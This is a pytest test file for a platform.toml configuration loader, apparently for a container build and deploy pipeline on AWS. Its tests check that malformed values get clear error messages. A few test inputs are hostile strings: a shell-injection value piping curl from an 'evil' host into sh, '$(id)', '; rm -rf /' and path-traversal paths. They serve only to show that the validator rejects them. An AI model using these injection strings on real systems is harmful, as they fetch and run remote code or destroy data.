"""platform.toml loader: every error class names the file, the key path and what was expected."""

from __future__ import annotations

import copy
import re
from pathlib import Path
from typing import Any

import pytest

from pipeline import config
from tests.conftest import EXAMPLE


def problems(raw: dict[str, Any]) -> list[str]:
    with pytest.raises(config.ConfigError) as info:
        config.parse(raw, source=Path("platform.toml"))
    return info.value.problems


def test_example_loads_into_frozen_typed_model() -> None:
    loaded = config.load(EXAMPLE)
    assert [t.name for t in loaded.teams] == ["payments", "search"]
    api = loaded.teams[0].services[0]
    assert api.platforms == ("linux/amd64", "linux/arm64")
    assert api.environments[0].lambda_ is not None and api.environments[0].lambda_.platform == "linux/arm64"
    assert api.secrets[0].secret_name == "payments/pip-index-token"
    with pytest.raises(AttributeError):
        api.name = "other"  # type: ignore[misc]


def test_example_exercises_every_field() -> None:
    """The shipped example is documentation: every key the schema knows appears in it at least once."""
    text = EXAMPLE.read_text()
    from dataclasses import fields, is_dataclass

    seen: set[type] = set()

    def walk(cls: type) -> None:
        if cls in seen:
            return
        seen.add(cls)
        import typing

        for f in fields(cls):  # type: ignore[arg-type]
            if not f.metadata.get("loader", True):
                continue
            key = f.metadata.get("key", f.name)
            assert re.search(rf"^\s*\[*[\w.]*{re.escape(key)}\]*\s*(=|$)", text, re.M), f"{cls.__name__}.{key}"
            for arg in (
                typing.get_type_hints(cls)[f.name],
                *typing.get_args(typing.get_type_hints(cls)[f.name]),
            ):
                for inner in (arg, *typing.get_args(arg)):
                    if is_dataclass(inner):
                        walk(inner)  # type: ignore[arg-type]

    walk(config.PlatformConfig)


def test_fails_on_unknown_key_with_path_and_suggestion(example_raw: dict[str, Any]) -> None:
    example_raw["teams"][1]["services"][0]["deploy"]["eks"]["namepsace"] = "search"
    assert problems(example_raw) == [
        "teams[1].services[0].deploy.eks.namepsace: unknown key (did you mean 'namespace'?); "
        "allowed: cluster, container, deployment, health_path, namespace, strategy"
    ]


def test_fails_on_unknown_top_level_key(example_raw: dict[str, Any]) -> None:
    example_raw["team"] = []
    assert problems(example_raw)[0].startswith("team: unknown key (did you mean 'teams'?)")


def test_fails_on_bad_lambda_architecture_naming_the_key_path(example_raw: dict[str, Any]) -> None:
    example_raw["teams"][0]["services"][0]["environments"][0]["lambda"]["architecture"] = "amd64"
    assert problems(example_raw) == [
        "teams[0].services[0].environments[0].lambda.architecture: expected one of 'x86_64', 'arm64', got 'amd64'"
    ]


def test_fails_on_missing_required_key(example_raw: dict[str, Any]) -> None:
    del example_raw["platform"]["region"]
    assert problems(example_raw) == ["platform.region: required key is missing"]


@pytest.mark.parametrize(
    ("key", "value", "message"),
    [
        ("account", "12345", "platform.account: expected a 12-digit AWS account id, got '12345'"),
        ("region", "eu-west", "platform.region: expected an AWS region such as 'eu-west-1', got 'eu-west'"),
        ("connection_arn", "arn:aws:s3:::bucket", "platform.connection_arn: expected a CodeConnections ARN"),
        ("name", "Acme", "platform.name: expected a lowercase name"),
        ("account", 111111111111, "platform.account: expected a string, got an integer 111111111111"),
    ],
)
def test_fails_on_bad_platform_values(example_raw: dict[str, Any], key: str, value: object, message: str) -> None:
    example_raw["platform"][key] = value
    assert problems(example_raw)[0].startswith(message)


def test_fails_on_bad_platform_string(example_raw: dict[str, Any]) -> None:
    example_raw["teams"][0]["services"][0]["platforms"] = ["linux/amd64", "linux/arm/v7"]
    assert problems(example_raw) == [
        "teams[0].services[0].platforms[1]: expected one of 'linux/amd64', 'linux/arm64', got 'linux/arm/v7'"
    ]


def test_fails_on_boolean_where_integer_expected(example_raw: dict[str, Any]) -> None:
    example_raw["registry"]["keep_releases"] = True
    assert problems(example_raw) == ["registry.keep_releases: expected an integer, got a boolean True"]


def test_fails_on_out_of_range_integer(example_raw: dict[str, Any]) -> None:
    example_raw["registry"]["keep_releases"] = 0
    assert problems(example_raw) == ["registry.keep_releases: expected 1..1000, got 0"]


def test_an_environment_in_another_region_is_replicated_not_refused(example_raw: dict[str, Any]) -> None:
    """A Lambda target in another region runs the regional replica (issue #27 item 5): accepted; a partition is not
    crossed."""
    prod = example_raw["teams"][0]["services"][0]["environments"][1]
    prod["region"] = "us-east-1"
    assert config.parse(example_raw, source=Path("platform.toml")).teams[0].services[0].environments[1].region
    prod["region"] = "cn-north-1"
    assert problems(example_raw) == [
        "teams[0].services[0].environments[1].region: cn-north-1 is in partition aws-cn, the platform in aws; roles "
        "and images do not cross partitions: run a platform in that partition"
    ]


def test_a_teams_rebuild_budget_is_at_least_one_pipeline(example_raw: dict[str, Any]) -> None:
    example_raw["teams"][0]["rebuild_concurrency"] = 0
    assert problems(example_raw) == ["teams[0].rebuild_concurrency: expected 1..100, got 0"]


def test_fails_on_duplicate_names(example_raw: dict[str, Any]) -> None:
    example_raw["teams"][1]["name"] = "payments"
    example_raw["teams"][0]["services"][0]["name"] = "python"  # clashes with a base image of the same team
    assert problems(example_raw) == [
        "teams[0].services[0].name: duplicate image name 'python' in team 'payments'",
        "teams[1].name: duplicate team name 'payments'",
    ]


def test_fails_on_duplicate_platform_and_empty_platforms(example_raw: dict[str, Any]) -> None:
    example_raw["teams"][0]["services"][0]["platforms"] = ["linux/arm64", "linux/arm64"]
    example_raw["teams"][1]["services"][0]["platforms"] = []
    found = problems(example_raw)
    assert "teams[0].services[0].platforms[1]: duplicate platform 'linux/arm64'" in found
    assert "teams[1].services[0].platforms: expected at least one of linux/amd64, linux/arm64" in found


def test_fails_when_lambda_architecture_is_not_built(example_raw: dict[str, Any]) -> None:
    example_raw["teams"][0]["services"][0]["platforms"] = ["linux/amd64"]
    assert problems(example_raw) == [
        f"teams[0].services[0].environments[{i}].lambda.architecture: 'arm64' needs platform 'linux/arm64', "
        "which the service does not build (platforms: ['linux/amd64'])"
        for i in (0, 1)
    ]


def test_fails_when_ecs_architecture_is_not_built(example_raw: dict[str, Any]) -> None:
    example_raw["teams"][1]["services"][0]["platforms"] = ["linux/amd64"]
    assert problems(example_raw) == [
        "teams[1].services[0].deploy.ecs.cpu_architecture: 'arm64' needs platform 'linux/arm64', "
        "which the service does not build (platforms: ['linux/amd64'])"
    ]


def test_fails_on_upstream_credential_rules(example_raw: dict[str, Any]) -> None:
    hub = next(u for u in example_raw["upstreams"] if u["registry"] == "docker-hub")
    hub["credential_secret"] = "dockerhub-token"
    k8s = next(u for u in example_raw["upstreams"] if u["registry"] == "k8s")
    k8s["credential_secret"] = "ecr-pullthroughcache/k8s"
    assert problems(example_raw) == [
        "upstreams[1].credential_secret: k8s takes no credential; remove the key",
        "upstreams[3].credential_secret: expected a name starting 'ecr-pullthroughcache/' (ECR requires it), "
        "got 'dockerhub-token'",
    ]


def test_fails_when_credentialed_upstream_has_no_secret(example_raw: dict[str, Any]) -> None:
    ghcr = next(u for u in example_raw["upstreams"] if u["prefix"] == "ghcr")
    del ghcr["credential_secret"]
    assert problems(example_raw) == [
        "upstreams[4].credential_secret: github-container-registry needs a Secrets Manager secret named "
        "'ecr-pullthroughcache/...'"
    ]


INSIDE = "expected a relative path inside the repository (letters, digits, '._/+@-'; no '..', not absolute), got "


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("context", "../elsewhere"),
        ("context", "/etc"),
        ("dockerfile", "a/../../Dockerfile"),
        ("context", "x; curl http://evil | sh #"),
        ("context", "svc\x00"),
        ("dockerfile", "$(id)"),
        ("context", ""),
    ],
)
def test_fails_on_path_escaping_the_repository_or_needing_quotes(
    example_raw: dict[str, Any], key: str, value: str
) -> None:
    example_raw["teams"][0]["services"][0][key] = value
    assert problems(example_raw) == [f"teams[0].services[0].{key}: {INSIDE}{value!r}"]


@pytest.mark.parametrize("value", ["../../etc", "/images/python", "images/python; rm -rf /"])
def test_fails_on_base_image_context_outside_the_repository(example_raw: dict[str, Any], value: str) -> None:
    example_raw["teams"][0]["base_images"][0]["context"] = value
    assert problems(example_raw) == [f"teams[0].base_images[0].context: {INSIDE}{value!r}"]


@pytest.mark.parametrize("branch", ["", "has space", "a..b", "-dash", "end/", "x.lock", "a~b", "a@{b", "tab\tx"])
def test_fails_on_branch_git_refuses(example_raw: dict[str, Any], branch: str) -> None:
    example_raw["teams"][0]["services"][0]["branch"] = branch
    assert problems(example_raw) == [f"teams[0].services[0].branch: expected a git branch name, got {branch!r}"]


def test_accepts_ordinary_branch_names(example_raw: dict[str, Any]) -> None:
    example_raw["teams"][0]["services"][0]["branch"] = "release/2026.11_hotfix-1"
    config.parse(example_raw)


@pytest.mark.parametrize(
    ("path", "value", "expected"),
    [
        (("platform", "account"), "\uff11" * 12, "expected a 12-digit AWS account id"),
        (("platform", "region"), "eu-west-\u0661", "expected an AWS region such as 'eu-west-1'"),
        (("teams", 1, "workload_accounts", 0), "\u0661" * 12, "expected a 12-digit AWS account id"),
    ],
)
def test_fails_on_unicode_digits(example_raw: dict[str, Any], path: tuple[Any, ...], value: str, expected: str) -> None:
    target: Any = example_raw
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    [problem] = problems(example_raw)
    assert expected in problem and problem.endswith(repr(value))


def test_fails_on_numeric_lambda_alias(example_raw: dict[str, Any]) -> None:
    example_raw["teams"][0]["services"][0]["environments"][0]["lambda"]["alias"] = "42"
    assert problems(example_raw) == [
        "teams[0].services[0].environments[0].lambda.alias: expected a Lambda alias name (not all digits), got '42'"
    ]


def test_fails_on_eks_cluster_name_over_100_characters(example_raw: dict[str, Any]) -> None:
    example_raw["teams"][1]["services"][0]["deploy"]["eks"]["cluster"] = "c" * 101
    [problem] = problems(example_raw)
    assert problem.startswith("teams[1].services[0].deploy.eks.cluster: expected an EKS cluster name (up to 100")


def test_fails_on_two_services_deploying_to_one_target(example_raw: dict[str, Any]) -> None:
    twin = copy.deepcopy(example_raw["teams"][1]["services"][0])
    twin["name"] = "indexer-two"
    example_raw["teams"][1]["services"].append(twin)
    assert problems(example_raw) == [
        "teams[1].services[1].deploy.ecs.service: ECS service search/indexer in account 111111111111 is already the "
        "target of search/indexer",
        "teams[1].services[1].deploy.eks.deployment: EKS Deployment search/search/indexer in account 111111111111 is "
        "already the target of search/indexer",
    ]


def test_fails_on_kms_key_in_another_region(example_raw: dict[str, Any]) -> None:
    example_raw["registry"]["kms_key_arn"] = (
        "arn:aws:kms:us-east-1:111111111111:key/" + "0" * 8 + "-0000-0000-0000-" + "0" * 12
    )
    assert problems(example_raw) == [
        "registry.kms_key_arn: the key is in us-east-1, the platform in eu-west-1; ECR needs a key in the "
        "repository's region"
    ]


def test_fails_on_unbounded_prefix_and_url(example_raw: dict[str, Any]) -> None:
    example_raw["upstreams"][0]["prefix"] = "p" * 31
    example_raw["upstreams"][-1]["url"] = "x" * 300
    found = problems(example_raw)
    assert found[0].startswith("upstreams[0].prefix: expected a lowercase ECR repository prefix")
    assert found[1].startswith(
        f"upstreams[{len(example_raw['upstreams']) - 1}].url: expected a registry host name, got 'xxx"
    )
    assert len(found[1]) < 200, "a long value is not echoed whole"


def test_field_and_cross_field_problems_come_together_sorted_by_key_path(example_raw: dict[str, Any]) -> None:
    example_raw["platform"]["region"] = "nowhere"
    example_raw["teams"][1]["name"] = "payments"
    example_raw["registry"]["keep_releases"] = 0
    assert [p.split(":")[0] for p in problems(example_raw)] == [
        "platform.region",
        "registry.keep_releases",
        "teams[1].name",
    ]


def test_unknown_key_with_a_newline_is_escaped(example_raw: dict[str, Any]) -> None:
    example_raw["platform"]["bad\nkey"] = 1
    [problem] = problems(example_raw)
    assert problem.startswith("platform.bad\\nkey: unknown key") and "\n" not in problem


def test_huge_value_is_not_echoed_whole(example_raw: dict[str, Any]) -> None:
    example_raw["platform"]["name"] = "x" * 5_000_000
    [problem] = problems(example_raw)
    assert len(problem) < 200 and "(5000000 chars)" in problem


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ("name = 1".encode("utf-16"), "UTF-16 text; save it as UTF-8"),
        (b"\xfe\xff" + "name = 1".encode("utf-16-be"), "UTF-16 text; save it as UTF-8"),  # big-endian
        (b"\xef\xbb\xbf[platform]\n", "starts with a UTF-8 byte-order mark"),
        (b"[platform]\nname = '\xff'\n", "not UTF-8 (byte 19, line 2); save it as UTF-8"),
        (b"x = " + b"[" * 5000 + b"]" * 5000 + b"\n", "tables or arrays nested too deeply to read"),
        (b"x = " + b"{a = " * 3000 + b"1" + b"}" * 3000 + b"\n", "tables or arrays nested too deeply to read"),
    ],
)
def test_fails_on_unreadable_bytes_with_the_file_named(tmp_path: Path, data: bytes, message: str) -> None:
    path = tmp_path / "platform.toml"
    path.write_bytes(data)
    with pytest.raises(config.ConfigError, match=re.escape(f"{path}: {message}")) as info:
        config.load(path)
    assert info.value.exit_code == 2


def test_reports_every_problem_at_once(example_raw: dict[str, Any]) -> None:
    example_raw["platform"]["region"] = "nowhere"
    example_raw["teams"][1]["workload_accounts"] = ["abc"]
    example_raw["teams"][1]["services"][0]["brnach"] = "main"
    assert len(problems(example_raw)) == 3


def test_error_text_names_the_file(tmp_path: Path) -> None:
    broken = tmp_path / "platform.toml"
    broken.write_text(EXAMPLE.read_text().replace('region = "eu-west-1"', 'regoin = "eu-west-1"'))
    with pytest.raises(config.ConfigError) as info:
        config.load(broken)
    assert f"{broken}: platform.regoin: unknown key (did you mean 'region'?)" in str(info.value)


def test_fails_on_invalid_toml(tmp_path: Path) -> None:
    broken = tmp_path / "platform.toml"
    broken.write_text("[platform\nname = 1")
    with pytest.raises(config.ConfigError, match=r"platform.toml: not valid TOML"):
        config.load(broken)


def test_fails_on_missing_file(tmp_path: Path) -> None:
    with pytest.raises(config.ConfigError, match=r"missing.toml: cannot read: No such file or directory"):
        config.load(tmp_path / "missing.toml")


def test_find_service_names_known_services() -> None:
    loaded = config.load(EXAMPLE)
    assert loaded.find_service("search/indexer")[1].name == "indexer"
    with pytest.raises(
        config.ConfigError, match=r"service 'search/api' not found \(known: payments/api, search/indexer\)"
    ):
        loaded.find_service("search/api")


def test_fails_when_two_teams_define_the_same_base(example_raw: dict[str, Any]) -> None:
    example_raw["teams"][1]["base_images"][0]["name"] = "python"
    assert problems(example_raw) == [
        "teams[1].base_images[0].name: base image 'python' is defined by another team too "
        "(build args BASE_<NAME> must be unique)"
    ]
